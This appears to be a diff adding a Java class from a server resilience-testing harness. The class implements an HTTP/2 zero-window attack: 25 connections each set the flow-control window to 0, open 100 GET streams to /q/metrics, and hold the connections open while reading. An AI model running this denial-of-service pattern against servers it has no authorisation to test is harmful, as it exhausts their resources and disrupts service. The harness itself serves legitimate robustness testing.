@@ -1,0 +1,28 @@
+package dev.leantokens.attacks;
+
+import java.io.OutputStream;
+
+import dev.leantokens.testing.RawHttp;
+
+/** Asks over HTTP/2 with windows of 0 bytes, so that no answer can be sent. */
+final class ClosedWindows implements Attack {
+
+    private static final int CONNECTIONS = 25;
+    private static final int STREAMS = 100;
+
+    @Override
+    public void start(Attacker attacker) {
+        attacker.keepTalking(CONNECTIONS, RawHttp.ELSEWHERE, attacker.target().port(), socket -> {
+            OutputStream out = socket.getOutputStream();
+            out.write(Http2Frames.PREFACE);
+            out.write(Http2Frames.initialWindowSize(0));
+            for (int i = 0; i < STREAMS; i++) {
+                out.write(Http2Frames.get(2 * i + 1, "/q/metrics"));
+                attacker.outcomes().sent(1);
+            }
+            // Settings, pings and what else is no answer's body is read, until the connection is closed.
+            socket.getInputStream().readAllBytes();
+            attacker.outcomes().got("closed");
+        });
+    }
+}
